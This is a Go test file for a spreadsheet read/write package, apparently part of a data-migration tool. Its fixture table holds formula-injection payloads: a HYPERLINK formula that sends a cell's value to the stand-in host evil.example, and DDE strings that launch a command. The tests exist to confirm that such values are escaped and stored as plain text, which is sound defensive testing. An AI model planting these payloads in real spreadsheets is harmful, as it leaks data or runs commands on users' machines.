package sheet_test

import (
	"bytes"
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
	"unicode/utf8"

	"github.com/ferry-migrate/ferry/internal/sheet"
	"github.com/xuri/excelize/v2"
)

// tricky holds values a careless writer or reader would change.
func tricky() sheet.Table {
	long := strings.Repeat("Lorem ipsum dolor sit amet, äöü 日本語 ", 1000)
	long = string([]rune(long)[:32_767-10]) + "0123456789" // exactly Excel's 32,767 characters
	return sheet.Table{
		Sheet:  "Matrix",
		Header: []string{"Source field", "Target field", "Notes", "Sample"},
		Rows: [][]string{
			{"givenName", "firstName", "Müller, Jürgen — «quoted» „German“", "日本語テキスト 🙂 עברית"},
			{"employeeID", "employeeNumber", "leading zeros", "00123"},
			{"telephoneNumber", "primaryPhone", "E.164", "+4930123456"},
			{"mobile", "mobilePhone", "North American", "+1 (555) 123-4567"},
			{"balance", "", "negative numbers", "-12"},
			{"ratio", "", "negative decimal", "-3.5"},
			{"code", "", "looks like a number", "1e5"},
			{"hired", "", "looks like a date", "2026-01-02"},
			{"formula", "", "formulas as text", "=1+1"},
			{"link", "", "injection", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
			{"dde", "", "DDE", "=cmd|' /C calc'!A0"},
			{"plus", "", "plus formula", "+SUM(A1:A3)"},
			{"minus", "", "minus formula", "-2+3+cmd|' /C calc'!A0"},
			{"at", "", "at sign", "@SUM(1,2)"},
			{"tab", "", "leading tab", "\t=1+1"},
			{"cr", "", "leading CR", "\r=1+1"},
			{"fullwidth", "", "full-width equals", "＝1+1"},
			{"quote", "", "already escaped-looking", "'=1+1"},
			{"quote2", "", "two quotes", "''-x"},
			{"quote3", "", "plain apostrophe", "'hello"},
			{"quote4", "", "apostrophe before phone", "'+4930123456"},
			{"newlines", "", "LF", "line 1\nline 2"},
			{"crlf", "", "CRLF kept", "line 1\r\nline 2"},
			{"cr only", "", "lone CR kept", "line 1\rline 2"},
			{"quotes", "", `say "hi", then ; and | and tab	!`, `"quoted"`},
			{"spaces", "", "  leading and trailing  ", " "},
			{"", "", "", ""}, // a blank row inside the table is kept
			{"escape-like", "", "_x0041_ and _x005F_ stay literal", "_x000D_ _x0041_x0042_ _x005F_x0041_ _xD800_"},
			{"bool-like", "", "TRUE", "FALSE"},
			{"long", "", "a very long cell", long},
			{"short row"},
		},
	}
}

// padded is t as Read gives it back: every row as wide as the header.
func padded(t sheet.Table) sheet.Table {
	out := sheet.Table{Sheet: t.Sheet, Header: t.Header}
	for _, r := range t.Rows {
		row := make([]string, len(t.Header))
		copy(row, r)
		out.Rows = append(out.Rows, row)
	}
	return out
}

func assertSameTable(t *testing.T, got, want sheet.Table) {
	t.Helper()
	if got.Sheet != want.Sheet {
		t.Errorf("sheet %q, want %q", got.Sheet, want.Sheet)
	}
	if !reflect.DeepEqual(got.Header, want.Header) {
		t.Errorf("header %q, want %q", got.Header, want.Header)
	}
	if len(got.Rows) != len(want.Rows) {
		t.Fatalf("%d rows, want %d", len(got.Rows), len(want.Rows))
	}
	for i := range want.Rows {
		for j := range want.Rows[i] {
			if g, w := got.Rows[i][j], want.Rows[i][j]; g != w {
				t.Errorf("row %d, column %d: %.80q, want %.80q", i+2, j+1, g, w)
			}
		}
	}
}

func TestCSVRoundTripKeepsEveryValue(t *testing.T) {
	in := tricky()
	got := MustRead(t, MustCSV(t, in), "exports/Matrix.csv")
	assertSameTable(t, got, padded(in))
}

func TestXLSXRoundTripKeepsEveryValue(t *testing.T) {
	in := tricky()
	got := MustRead(t, MustXLSX(t, in), "matrix.xlsx")
	assertSameTable(t, got, padded(in))
}

func TestCSVIsExcelFriendlyAndEscaped(t *testing.T) {
	out := string(MustCSV(t, sheet.Table{
		Header: []string{"name", "value"},
		Rows: [][]string{
			{"formula", "=1+1"},
			{"phone", "+4930123456"},
			{"negative", "-12"},
			{"comma", "a,b"},
			{"quote", `say "hi"`},
			{"newline", "a\nb"},
		},
	}))
	want := "\ufeffname,value\r\n" +
		"formula,'=1+1\r\n" +
		"phone,+4930123456\r\n" +
		"negative,-12\r\n" +
		"comma,\"a,b\"\r\n" +
		"quote,\"say \"\"hi\"\"\"\r\n" +
		"newline,\"a\nb\"\r\n"
	if out != want {
		t.Errorf("CSV:\n%q\nwant\n%q", out, want)
	}
}

func TestXLSXCellsAreTypedTextInAFilteredFrozenSheet(t *testing.T) {
	in := tricky()
	f, err := excelize.OpenReader(bytes.NewReader(MustXLSX(t, in)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !reflect.DeepEqual(got, []string{"Matrix"}) {
		t.Fatalf("sheets %q", got)
	}
	for i, row := range in.Rows {
		for j, v := range row {
			if v == "" {
				continue
			}
			ref, _ := excelize.CoordinatesToCellName(j+1, i+2)
			typ, err := f.GetCellType("Matrix", ref)
			if err != nil {
				t.Fatal(err)
			}
			if typ != excelize.CellTypeSharedString {
				t.Errorf("%s (%q) has type %v, want a shared string", ref, v, typ)
			}
			if formula, _ := f.GetCellFormula("Matrix", ref); formula != "" {
				t.Errorf("%s holds the formula %q", ref, formula)
			}
		}
	}

	panes, err := f.GetPanes("Matrix")
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v, %v: want the header row frozen", panes, err)
	}
	styleID, _ := f.GetCellStyle("Matrix", "B1")
	style, err := f.GetStyle(styleID)
	if err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("header style %+v, %v: want bold", style, err)
	}
	styleID, _ = f.GetCellStyle("Matrix", "D3")
	if style, _ := f.GetStyle(styleID); style.NumFmt != 49 {
		t.Errorf("body cell number format %d, want 49 (Text)", style.NumFmt)
	}
	styleID, _ = f.GetCellStyle("Matrix", "D23") // "line 1\nline 2"
	if style, _ := f.GetStyle(styleID); style.Alignment == nil || !style.Alignment.WrapText {
		t.Errorf("a cell with a line break does not wrap: %+v", style.Alignment)
	}
	for col, want := range map[string][2]float64{"A": {12, 20}, "D": {60, 60}} {
		w, _ := f.GetColWidth("Matrix", col)
		if w < want[0] || w > want[1] {
			t.Errorf("column %s is %.1f wide, want %.0f to %.0f", col, w, want[0], want[1])
		}
	}
	names := f.GetDefinedName()
	filtered := false
	for _, n := range names {
		if n.Name == "_xlnm._FilterDatabase" && strings.Contains(n.RefersTo, fmt.Sprintf("$A$1:$D$%d", len(in.Rows)+1)) {
			filtered = true
		}
	}
	if !filtered {
		t.Errorf("no autofilter over the table: %+v", names)
	}
}

func TestXLSXBookWritesEverySheetAndReadTakesANamedOne(t *testing.T) {
	matrix := sheet.Table{Sheet: "Matrix", Header: []string{"Source"}, Rows: [][]string{{"mail"}}}
	pii := sheet.Table{Sheet: "PII register", Header: []string{"Field", "Decision"}, Rows: [][]string{{"mail", "migrate"}}}
	var b bytes.Buffer
	if err := sheet.WriteXLSXBook(&b, []sheet.Table{matrix, pii}); err != nil {
		t.Fatal(err)
	}
	assertSameTable(t, MustRead(t, b.Bytes(), "book.xlsx"), matrix)
	assertSameTable(t, MustRead(t, b.Bytes(), "book.xlsx", sheet.WithSheet("pii REGISTER")), pii)

	_, err := sheet.Read(bytes.NewReader(b.Bytes()), "book.xlsx", 0, sheet.WithSheet("Defects"))
	sheetError(t, err, 0, 0, `no sheet called "Defects"`, `"Matrix", "PII register"`)
}

func TestWritersRefuseTablesTheyCannotWriteFaithfully(t *testing.T) {
	tooLong := strings.Repeat("x", 32_768)
	cases := []struct {
		name     string
		table    sheet.Table
		onlyXLSX bool
		row, col int
		want     string
	}{
		{"no header", sheet.Table{}, false, 1, 0, "header row is missing"},
		{"empty column name", sheet.Table{Header: []string{"a", " "}}, false, 1, 2, "no name"},
		{"repeated column name", sheet.Table{Header: []string{"Email", "Name", "E mail"}}, false, 1, 3, `"E mail" is already used by column A`},
		{"row longer than header", sheet.Table{Header: []string{"a"}, Rows: [][]string{{"1", "2"}}}, false, 2, 2, "2 cells but the header has only 1"},
		{"invalid UTF-8", sheet.Table{Header: []string{"a"}, Rows: [][]string{{"M\xfcller"}}}, false, 2, 1, "not valid UTF-8"},
		{"cell too long", sheet.Table{Header: []string{"a"}, Rows: [][]string{{tooLong}}}, false, 2, 1, "32,768 characters"},
		{"control character", sheet.Table{Header: []string{"a"}, Rows: [][]string{{"bell\x07"}}}, false, 2, 1, "U+0007"},
		{"bad sheet name", sheet.Table{Sheet: "a/b", Header: []string{"a"}}, true, 0, 0, `holds one of`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			err := sheet.WriteXLSX(&bytes.Buffer{}, c.table)
			sheetError(t, err, c.row, c.col, c.want)
			err = sheet.WriteCSV(&bytes.Buffer{}, c.table)
			if c.onlyXLSX {
				if err != nil {
					t.Errorf("WriteCSV: %v", err)
				}
				return
			}
			sheetError(t, err, c.row, c.col, c.want)
		})
	}
	var b bytes.Buffer
	err := sheet.WriteXLSXBook(&b, []sheet.Table{{Sheet: "A", Header: []string{"x"}}, {Sheet: "a", Header: []string{"x"}}})
	sheetError(t, err, 0, 0, `two sheets are called "a"`)
}

// randomTable makes a table of random strings, biased towards the characters
// that matter to CSV, escaping and XML.
func randomTable(r *rand.Rand) sheet.Table {
	alphabet := []string{"a", "Z", "0", "9", " ", ",", ";", "|", "\t", "\r", "\n", `"`, "'", "=", "+", "-", "@", "(", ")", ".",
		"＝", "＋", "－", "＠", "ü", "日", "🙂", "_x0041_", "_x005F_", "_x", "\u00a0", "\ufeff", "\x7f", "\u2028", "sep="}
	cell := func() string {
		var b strings.Builder
		for range r.Intn(8) {
			b.WriteString(alphabet[r.Intn(len(alphabet))])
		}
		return b.String()
	}
	width := 1 + r.Intn(5)
	t := sheet.Table{Sheet: "Random"}
	for j := range width {
		t.Header = append(t.Header, fmt.Sprintf("c%d %s", j, cell()))
	}
	for range r.Intn(6) {
		row := make([]string, width)
		for j := range row {
			row[j] = cell()
		}
		t.Rows = append(t.Rows, row)
	}
	// Trailing blank rows are not kept by design; end on a row with a value.
	t.Rows = append(t.Rows, append(make([]string, width-1), "end"))
	return t
}

func TestRandomTablesRoundTrip(t *testing.T) {
	for _, format := range []string{"csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			check := func(seed int64) bool {
				in := randomTable(rand.New(rand.NewSource(seed)))
				var b bytes.Buffer
				var err error
				if format == "csv" {
					err = sheet.WriteCSV(&b, in)
				} else {
					err = sheet.WriteXLSX(&b, in)
				}
				if err != nil {
					t.Logf("seed %d: write: %v", seed, err)
					return false
				}
				got, err := sheet.Read(&b, "Random."+format, 0)
				if err != nil {
					t.Logf("seed %d: read: %v", seed, err)
					return false
				}
				if !reflect.DeepEqual(got, in) {
					t.Logf("seed %d:\n got %q\nwant %q", seed, got, in)
					return false
				}
				return true
			}
			n := 300
			if format == "xlsx" {
				n = 60
			}
			if err := quick.Check(check, &quick.Config{MaxCount: n}); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestCSVRoundTripOfEncodingsAndDelimiters(t *testing.T) {
	want := sheet.Table{Sheet: "people", Header: []string{"Name", "City"}, Rows: [][]string{{"Jürgen", "Köln; NRW"}, {"李", "北京"}}}
	utf16 := func(big bool, s string) []byte {
		b := []byte{0xFF, 0xFE}
		if big {
			b = []byte{0xFE, 0xFF}
		}
		for _, r := range s {
			if r > 0xFFFF {
				t.Fatal("test text must stay in the BMP")
			}
			if big {
				b = append(b, byte(r>>8), byte(r))
			} else {
				b = append(b, byte(r), byte(r>>8))
			}
		}
		return b
	}
	cases := map[string][]byte{
		"UTF-8 with BOM, comma":  []byte("\ufeffName,City\r\nJürgen,\"Köln; NRW\"\r\n李,北京\r\n"),
		"UTF-8, semicolon":       []byte("Name;City\nJürgen;\"Köln; NRW\"\n李;北京"),
		"tab":                    []byte("Name\tCity\nJürgen\tKöln; NRW\n李\t北京\n"),
		"pipe, old Mac CR":       []byte("Name|City\rJürgen|Köln; NRW\r李|北京\r"),
		"Excel sep= line":        []byte("sep=;\r\nName;City\r\nJürgen;Köln, NRW\r\n李;北京\r\n"),
		"UTF-16 LE with BOM":     utf16(false, "Name\tCity\r\nJürgen\tKöln; NRW\r\n李\t北京\r\n"),
		"UTF-16 BE with BOM":     utf16(true, "Name,City\r\nJürgen,\"Köln; NRW\"\r\n李,北京\r\n"),
		"trailing empty columns": []byte("Name,City,,\r\nJürgen,\"Köln; NRW\",,\r\n李,北京,,\r\n\r\n\r\n"),
	}
	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			got := MustRead(t, data, "people.csv")
			w := want
			if name == "Excel sep= line" {
				w.Rows = [][]string{{"Jürgen", "Köln, NRW"}, {"李", "北京"}}
			}
			assertSameTable(t, got, w)
		})
	}
}

func TestReadXLSXFromOtherToolsGivesStoredValues(t *testing.T) {
	data := MustExcelize(t, func(f *excelize.File) {
		date, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
		custom := "yyyy-mm-dd hh:mm"
		dateTime, _ := f.NewStyle(&excelize.Style{CustomNumFmt: &custom})
		timeOnly, _ := f.NewStyle(&excelize.Style{NumFmt: 20})
		money, _ := f.NewStyle(&excelize.Style{NumFmt: 4})
		f.SetSheetRow("Sheet1", "A1", &[]any{"text", "int", "float", "date", "datetime", "time", "bool", "money", "big"})
		f.SetSheetRow("Sheet1", "A2", &[]any{"00123", 123, 0.1 + 0.2, 46024, 46024.5, 0.75, true, 1234.5, 1e21})
		f.SetCellStyle("Sheet1", "D2", "D2", date)
		f.SetCellStyle("Sheet1", "E2", "E2", dateTime)
		f.SetCellStyle("Sheet1", "F2", "F2", timeOnly)
		f.SetCellStyle("Sheet1", "H2", "H2", money)
		f.SetCellRichText("Sheet1", "A4", []excelize.RichTextRun{{Text: "rich "}, {Text: "text", Font: &excelize.Font{Bold: true}}})
		f.SetCellStr("Sheet1", "B7", "row seven")
	})
	got := MustRead(t, data, "other.xlsx")
	want := sheet.Table{
		Sheet:  "Sheet1",
		Header: []string{"text", "int", "float", "date", "datetime", "time", "bool", "money", "big"},
		Rows: [][]string{
			{"00123", "123", "0.3", "2026-01-02", "2026-01-02 12:00:00", "18:00:00", "TRUE", "1234.5", "1E+21"},
			make([]string, 9),
			{"rich text", "", "", "", "", "", "", "", ""},
			make([]string, 9),
			make([]string, 9),
			{"", "row seven", "", "", "", "", "", "", ""},
		},
	}
	assertSameTable(t, got, want)
	if got.RowNumber(5) != 7 {
		t.Errorf("RowNumber(5) = %d, want 7", got.RowNumber(5))
	}
}

func TestColumnLookupIgnoresCaseAndSpace(t *testing.T) {
	tb := sheet.Table{Header: []string{"Source field", "Target\u00a0Field", "PII"}}
	for name, want := range map[string]int{"source field": 0, " SOURCEFIELD ": 0, "target field": 1, "pii": 2, "Notes": -1} {
		got, ok := tb.Column(name)
		if got != want || ok != (want >= 0) {
			t.Errorf("Column(%q) = %d, %v; want %d", name, got, ok, want)
		}
	}
	if err := sheet.RequireColumns(tb, "source field", "PII"); err != nil {
		t.Errorf("RequireColumns: %v", err)
	}
	err := sheet.RequireColumns(tb, "Source field", "Notes", "Required", "Unique")
	sheetError(t, err, 1, 0, `lacks the columns "Notes", "Required" and "Unique"`, "it has these columns: Source field")
	err = sheet.RequireColumns(tb, "notes")
	sheetError(t, err, 1, 0, `lacks the column "notes";`)
}

func TestErrorNamesRowAndColumnAsASpreadsheetDoes(t *testing.T) {
	cases := map[string]*sheet.Error{
		"row 3, column C: bad":  {Row: 3, Column: 3, Message: "bad"},
		"row 3: bad":            {Row: 3, Message: "bad"},
		"column AA: bad":        {Column: 27, Message: "bad"},
		"bad":                   {Message: "bad"},
		"row 1, column XFD: ok": {Row: 1, Column: 16384, Message: "ok"},
	}
	for want, e := range cases {
		if e.Error() != want {
			t.Errorf("%+v: %q, want %q", e, e.Error(), want)
		}
	}
}

func TestRandomTablesAreValidUTF8(t *testing.T) {
	// Guards the generator above: a table of invalid UTF-8 would be refused.
	r := rand.New(rand.NewSource(1))
	for range 50 {
		tb := randomTable(r)
		for _, row := range append([][]string{tb.Header}, tb.Rows...) {
			for _, c := range row {
				if !utf8.ValidString(c) {
					t.Fatalf("invalid UTF-8 %q", c)
				}
			}
		}
	}
}
